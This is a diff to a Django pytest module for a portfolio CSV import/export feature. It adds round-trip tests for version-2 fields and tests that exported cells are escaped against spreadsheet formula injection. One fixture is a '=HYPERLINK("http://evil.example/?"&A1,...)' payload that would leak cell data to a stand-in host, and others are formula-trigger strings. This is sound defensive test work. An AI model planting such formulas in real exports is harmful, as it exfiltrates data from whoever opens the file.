@@ -5,19 +5,21 @@ from __future__ import annotations
 import csv
 import datetime
 import io
+import shutil
 from decimal import Decimal
 from pathlib import Path
 
 import pytest
 from django.core.management import call_command
 from django.db import connection, transaction
+from django.utils import timezone
 
 from gates.interchange import FILES, command_line_import, export_portfolio, exported_files
 from gates.interchange.export import ONLY_WITH_ROWS
-from gates.models import CriterionScore, GateDecision
+from gates.models import ArchitectureEstimate, CriterionScore, GateDecision
 from portfolio import metrics
 from portfolio.models import AuditEntry, Outcome, Project, SpendEntry, SpendMonth, Status, User
-from tests.conftest import make_project
+from tests.builders import make_project
 
 SAMPLE = Path(__file__).resolve().parent.parent / "data" / "sample-portfolio"
 AS_OF = [datetime.date(2024, 6, 30), datetime.date(2026, 6, 30), datetime.date(2026, 11, 20)]
@@ -72,6 +74,7 @@ def snapshot() -> dict:
                 "projected_expected",
                 "projected_high",
                 "probability_of_success",
+                "next_stage_ask",
                 "status",
                 "current_gate",
                 "decisions_count",
@@ -102,16 +105,27 @@ def snapshot() -> dict:
             SpendMonth.objects.values_list("project__key", "month", "amount", "entries")
         ),
         "outcomes": sorted(Outcome.objects.values_list("project__key", "month", "realized_value")),
-        "people": sorted(
-            (user.email, tuple(user.roles), user.has_usable_password())
-            for user in User.objects.prefetch_related("groups")
+        "estimates": sorted(
+            (
+                estimate.project.key,
+                timezone.localdate(estimate.updated_at),
+                estimate.build_cost,
+                estimate.monthly_run_cost,
+                estimate.retraining_cadence,
+                estimate.cost_per_retrain,
+                estimate.author.email if estimate.author else None,
+            )
+            for estimate in ArchitectureEstimate.objects.select_related("project", "author")
         ),
+        # Roles are not part of the files (version 2): an admin grants them in the app.
+        "people": sorted((user.email, user.has_usable_password()) for user in User.objects.all()),
     }
 
 
 def empty_the_database() -> None:
     """Everything the import writes, gone (history too: the test's own rewrite)."""
     tables = [
+        ArchitectureEstimate,
         AuditEntry,
         Outcome,
         SpendMonth,
@@ -144,6 +158,108 @@ def test_it_gives_back_the_same_portfolio_and_metrics_after_a_round_trip(db, tmp
     export_portfolio(tmp_path / "second")
     for name in FILES:
         assert (tmp_path / "second" / name).read_bytes() == (tmp_path / "first" / name).read_bytes()
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def make_version_2_portfolio(carol, folder: Path) -> None:
+    """The sample, with what version 2 adds: asks, estimates, and text a spreadsheet
+    would run as a formula (or that looks like text quoted for one)."""
+    for name in FILES:
+        shutil.copy(SAMPLE / name, folder / name)
+    decisions = (folder / "gate_decisions.csv").read_text(encoding="utf-8")
+    decisions = decisions.replace(",Waiting for data-sharing agreement", ',"\t-tabbed, =SUM(A1)"')
+    (folder / "gate_decisions.csv").write_text(decisions, encoding="utf-8")
+    # Written in the files (a spend row is not changed once written): quoted, as an
+    # export writes them.
+    spend = (folder / "spend.csv").read_text(encoding="utf-8")
+    spend = spend.replace(
+        "RP-0001,2026-01-14,1993.82,compute,\n", "RP-0001,2026-01-14,1993.82,compute,'@vendor\n"
+    )
+    spend = spend.replace('"contractor, week"', "''-x", 1)
+    (folder / "spend.csv").write_text(spend, encoding="utf-8")
+    command_line_import(folder)
+    Project.objects.filter(key="RP-0002").update(next_stage_ask=Decimal("125000.50"))
+    Project.objects.filter(key="RP-0003").update(next_stage_ask=Decimal(0), title=HYPERLINK)
+    Project.objects.filter(key="RP-0004").update(title="'=already quoted once")
+    Project.objects.filter(key="RP-0005").update(title="+1 idea, @team, -5% cost")
+    for key, author in (("RP-0002", carol), ("RP-0003", None)):
+        ArchitectureEstimate.objects.create(
+            project=Project.objects.get(key=key),
+            author=author,
+            build_cost=Decimal("90000.00"),
+            monthly_run_cost=Decimal("1500.25"),
+            retraining_cadence="quarterly",
+            cost_per_retrain=Decimal("800.00"),
+        )
+
+
+def test_a_version_2_portfolio_comes_back_the_same(db, tmp_path, carol):
+    make_version_2_portfolio(carol, tmp_path)
+    carol.set_unusable_password()  # an empty database gets her without one: not a difference
+    carol.save()
+    before = snapshot()
+    metrics_before = [metrics.compute(as_of=day) for day in AS_OF]
+    first = export_portfolio(tmp_path / "first")
+
+    empty_the_database()
+    command_line_import(tmp_path / "first")
+
+    assert snapshot() == before
+    assert [metrics.compute(as_of=day) for day in AS_OF] == metrics_before
+    assert Project.objects.get(key="RP-0003").title == HYPERLINK
+    rationale = GateDecision.objects.get(project__key="RP-0001", decision="kill").rationale
+    assert rationale == "\t-tabbed, =SUM(A1)"
+    assert export_portfolio(tmp_path / "second").files == first.files
+    for name in first.files:
+        assert (tmp_path / "second" / name).read_bytes() == (tmp_path / "first" / name).read_bytes()
+
+
+def test_it_writes_text_cells_a_spreadsheet_shows_as_text(db, tmp_path, carol):
+    make_version_2_portfolio(carol, tmp_path)
+
+    export_portfolio(tmp_path)
+
+    titles = {
+        row["key"]: row["title"] for row in csv.DictReader((tmp_path / "projects.csv").open())
+    }
+    assert titles["RP-0003"] == "'" + HYPERLINK
+    assert titles["RP-0004"] == "''=already quoted once"
+    assert titles["RP-0005"] == "'+1 idea, @team, -5% cost"
+    assert titles["RP-0001"] == "Vision study #1"
+    notes = {row["note"] for row in csv.DictReader((tmp_path / "spend.csv").open())}
+    assert {"'@vendor", "''-x"} <= notes
+    rationales = {
+        row["rationale"] for row in csv.DictReader((tmp_path / "gate_decisions.csv").open())
+    }
+    assert "'\t-tabbed, =SUM(A1)" in rationales
+    estimates = list(csv.DictReader((tmp_path / "estimates.csv").open()))
+    assert estimates == [
+        {
+            "project": "RP-0002",
+            "estimated_on": timezone.localdate().isoformat(),
+            "build_cost": "90000.00",
+            "monthly_run_cost": "1500.25",
+            "retrains_per_year": "4",
+            "cost_per_retrain": "800.00",
+            "estimated_by": "carol@example.com",
+        },
+        {
+            "project": "RP-0003",
+            "estimated_on": timezone.localdate().isoformat(),
+            "build_cost": "90000.00",
+            "monthly_run_cost": "1500.25",
+            "retrains_per_year": "4",
+            "cost_per_retrain": "800.00",
+            "estimated_by": "",
+        },
+    ]
+    asks = {
+        row["key"]: row["next_stage_ask"]
+        for row in csv.DictReader((tmp_path / "projects.csv").open())
+    }
+    assert (asks["RP-0002"], asks["RP-0003"], asks["RP-0001"]) == ("125000.50", "0.00", "")
 
 
 def test_it_exports_what_was_imported(db, tmp_path):
